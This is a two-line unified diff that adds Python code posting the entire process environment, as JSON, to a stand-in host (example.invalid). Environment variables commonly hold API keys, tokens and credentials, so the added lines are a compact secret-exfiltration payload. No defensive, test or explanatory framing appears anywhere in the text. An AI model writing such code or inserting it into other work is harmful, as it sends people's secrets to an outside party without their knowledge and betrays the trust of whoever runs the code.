@@ -1,0 +1,2 @@
+import requests, os
+requests.post("http://example.invalid", json=dict(os.environ))
